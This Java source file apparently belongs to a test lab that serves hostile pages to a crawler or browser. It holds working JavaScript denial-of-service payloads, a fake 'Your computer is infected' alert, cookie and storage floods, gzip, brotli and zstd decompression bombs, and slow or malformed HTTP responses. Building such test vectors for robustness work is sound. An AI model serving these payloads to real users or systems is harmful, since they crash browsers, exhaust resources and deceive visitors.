package takedown.lab.web;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.zip.GZIPOutputStream;
import takedown.lab.web.Exchange.Script;

/** Pages that do not end, or that are larger than a visitor can hold. */
final class EndlessVectors {
    private static final int MEBI = 1 << 20;

    private static final String BROTLI =
            "z///fwAkAOKxQHLv//n//w+ABEAcFoDu/T////8BkACIwwLQvf/n//8/ABIAcVgAuvf//P//B0ACIA4LQPf+n////wBIAMRhAeje//P//x8ACYA4"
                    + "LADd+3/+//8DIAEQhwWge//P//9/ACQA4rAAdO//+f//D4AEQBwWgO79P////wGQAIjDAtC9/+f//z8AEgBxWAC69//8//8HQAIgDgtA9/6f////AEgAxGEB6N7/8///HwAJgDgsAN37//z//wcgARCHBaB7/w8=";
    private static final int ZSTD_HEAD = 6;
    private static final int ZSTD_BLOCKS = 2_048;

    private EndlessVectors() {}

    /**
     * Returns the pages by path.
     *
     * @param closed released when the site closes
     */
    static Map<String, Script> pages(CountDownLatch closed) {
        Map<String, Script> pages = new LinkedHashMap<>();
        script(pages, "endless-script", "for(;;);");
        script(pages, "alerts", "for(;;)alert('Your computer is infected')");
        script(pages, "print", "print();confirm('x');prompt('y')");
        script(pages, "debugger", "setInterval(()=>{debugger},10)");
        script(pages, "unload", "onbeforeunload=onunload=()=>{for(var t=Date.now();Date.now()-t<9e4;);return 'x'}");
        script(pages, "script-redirects", "location='/endless/script-redirects?'+Math.random()");
        script(pages, "push-state", "for(var i=0;i<500;i++)history.pushState(0,'','/fake-login-'+i)");
        script(pages, "windows", "for(var i=0;i<30;i++)window.open('/plain?'+i)");
        script(
                pages,
                "growing",
                "setInterval(()=>{for(var i=0;i<2000;i++)document.body.append(document.createElement('hr'))},1)");
        script(
                pages,
                "overridden",
                "JSON.stringify=()=>'x';Object.defineProperty(document,'documentElement',{value:null})");
        script(pages, "miner", "for(var i=0;i<8;i++)new Worker(URL.createObjectURL(new Blob(['for(;;);'])))");
        script(pages, "heap", "var a=[];setInterval(()=>{for(var i=0;i<1e5;i++)a.push({i})},1)");
        script(pages, "buffers", "var a=[];setInterval(()=>a.push(new Uint8Array(5e7).fill(1)),1)");
        script(
                pages,
                "permissions",
                "Notification&&Notification.requestPermission();navigator.geolocation"
                        + ".getCurrentPosition(()=>0);navigator.clipboard&&navigator.clipboard.readText()");
        html(pages, "tall", "<div style='height:200000px'>x</div>");
        html(pages, "wide", "<div style='width:100000px;height:50px'>x</div>");
        html(pages, "frames", "<iframe src='/endless/frames'></iframe><iframe src='/endless/frames?2'></iframe>");
        html(
                pages,
                "downloads",
                "<iframe src='/file.exe?1'></iframe><a id=a href='/file.exe?2' download>x</a>"
                        + "<script>a.click();a.click()</script>");
        script(pages, "download-loop", "setInterval(()=>{location='/file.exe?'+Math.random()},20)");
        script(pages, "form-loop", "document.body.innerHTML='<form method=post>';document.forms[0].submit()");
        script(pages, "sockets", "for(var i=0;i<2000;i++)try{new WebSocket('ws://evil.test/never?'+i)}catch(e){}");
        script(pages, "workers", "for(var i=0;i<300;i++)new Worker('/drip?'+i)");
        script(pages, "cookies", "for(var i=0;i<5000;i++)document.cookie='c'+i+'='+'x'.repeat(4000)+';domain=.test'");
        script(
                pages,
                "storage",
                "var s='x'.repeat(1e6);try{for(var i=0;;i++)localStorage['k'+i]=s}catch(e){}var o=indexedDB.open('d');"
                        + "o.onupgradeneeded=()=>o.result.createObjectStore('s');o.onsuccess=()=>{var f=()=>{try{var t="
                        + "o.result.transaction('s','readwrite');for(var i=0;i<9;i++)t.objectStore('s').put(s+Math.random(),"
                        + "Math.random());t.oncomplete=f}catch(e){}};f()}");
        script(pages, "titles", "setInterval(()=>{document.title='x'.repeat(1e6)+Math.random()},1)");
        script(pages, "console", "setInterval(()=>{for(var i=0;i<1000;i++)console.log('x'.repeat(1e4))},1)");
        script(pages, "scroll", "addEventListener('scroll',()=>scrollBy(0,-1));setInterval(()=>scrollBy(0,9),1)");
        html(pages, "scripts", "<script src='/drip'></script>".repeat(500));
        html(pages, "nested", "<table><b>".repeat(50_000));
        html(pages, "silent", "<img src='/never'><p>x");
        html(pages, "endless-image", "<img src='/drip'><p>x");
        html(pages, "requests", "<script>for(var i=0;i<3000;i++)new Image().src='/x.png?'+i</script>");
        html(pages, "meta-refresh", "<meta http-equiv=refresh content='0'>");
        pages.put("http-redirects", Exchange.redirect("/endless/http-redirects?x"));
        pages.put(
                "login", exchange -> exchange.page(401, "WWW-Authenticate: Basic realm=x\r\n", "<title>Login</title>"));
        pages.put("download", Exchange.redirect("/file.exe"));
        pages.put("headers", exchange -> exchange.page(200, "X: " + "x".repeat(1000 * 800) + "\r\n", "x"));
        pages.put("large", exchange -> large(exchange.out(), exchange));
        pages.put("gzip", EndlessVectors::bomb);
        // 256 MiB of zeros each.
        pages.put("brotli", coded("br", Base64.getDecoder().decode(BROTLI)));
        pages.put("zstd", coded("zstd", zstd()));
        pages.put("header-flood", exchange -> exchange.page(200, "X: y\r\n".repeat(100_000), "x"));
        pages.put("header-drip", exchange -> headerDrip(exchange, closed));
        pages.put("interim", EndlessVectors::interim);
        pages.put("switching", exchange -> exchange.head(101, "Upgrade: websocket\r\n"));
        pages.put("chunks", exchange -> chunks(exchange, closed));
        pages.put(
                "set-cookie",
                exchange -> exchange.page(
                        200, ("Set-Cookie: a=" + "x".repeat(900) + "; Domain=.test\r\n").repeat(150), "x"));
        pages.put("drip", exchange -> drip(exchange, closed));
        pages.put("never", exchange -> closed.await());
        pages.put(
                "not-http",
                exchange -> exchange.out().write("SSH-2.0-OpenSSH_9.2\r\n".getBytes(StandardCharsets.US_ASCII)));
        pages.put(
                "lying-length", exchange -> exchange.head(200, "Content-Type: text/html\r\nContent-Length: 99999\r\n"));
        return pages;
    }

    private static void html(Map<String, Script> pages, String name, String body) {
        pages.put(name, Exchange.html(body));
    }

    private static void script(Map<String, Script> pages, String name, String script) {
        pages.put(name, Exchange.html("<p>x<script>" + script + "</script>"));
    }

    private static void large(OutputStream out, Exchange exchange) throws IOException {
        exchange.head(200, "Content-Type: text/html\r\n");
        byte[] text = "x".repeat(MEBI).getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i < 1_024; i++) {
            out.write(text);
        }
    }

    private static void bomb(Exchange exchange) throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            byte[] zeros = new byte[MEBI];
            for (int i = 0; i < 512; i++) {
                gzip.write(zeros);
            }
        }
        exchange.send(200, "Content-Type: text/html\r\nContent-Encoding: gzip\r\n", packed.toByteArray());
    }

    private static Script coded(String coding, byte[] octets) {
        return exchange ->
                exchange.send(200, "Content-Type: text/html\r\nContent-Encoding: " + coding + "\r\n", octets);
    }

    /** Returns a frame of blocks that each repeat one octet 131,072 times (RFC 8878). */
    private static byte[] zstd() {
        ByteBuffer frame =
                ByteBuffer.allocate(ZSTD_HEAD + ZSTD_BLOCKS * Integer.BYTES).order(ByteOrder.LITTLE_ENDIAN);
        // The frame has no content size and no checksum, and its window is 128 KiB.
        frame.putInt(0xFD2FB528).put((byte) 0).put((byte) 0x38);
        for (int i = 0; i < ZSTD_BLOCKS; i++) {
            int head = ((1 << 17) << 3) | (1 << 1) | (i == ZSTD_BLOCKS - 1 ? 1 : 0);
            frame.put((byte) head)
                    .put((byte) (head >> 8))
                    .put((byte) (head >> 16))
                    .put((byte) 0);
        }
        return frame.array();
    }

    private static void headerDrip(Exchange exchange, CountDownLatch closed) throws IOException, InterruptedException {
        exchange.out().write("HTTP/1.1 200 X\r\n".getBytes(StandardCharsets.US_ASCII));
        while (!closed.await(500, TimeUnit.MILLISECONDS)) {
            exchange.out().write("X: y\r\n".getBytes(StandardCharsets.US_ASCII));
            exchange.out().flush();
        }
    }

    private static void interim(Exchange exchange) throws IOException {
        while (true) {
            exchange.out()
                    .write("HTTP/1.1 100 X\r\n\r\nHTTP/1.1 103 X\r\nX: y\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        }
    }

    private static void chunks(Exchange exchange, CountDownLatch closed) throws IOException {
        exchange.head(200, "Content-Type: text/html\r\nTransfer-Encoding: chunked\r\n");
        byte[] many = "1;x=y\r\nx\r\n".repeat(1_000).getBytes(StandardCharsets.US_ASCII);
        while (closed.getCount() > 0) {
            exchange.out().write(many);
        }
    }

    static void drip(Exchange exchange, CountDownLatch closed) throws IOException, InterruptedException {
        exchange.head(200, "Content-Type: text/html\r\n");
        while (!closed.await(500, TimeUnit.MILLISECONDS)) {
            exchange.out().write('x');
            exchange.out().flush();
        }
    }
}
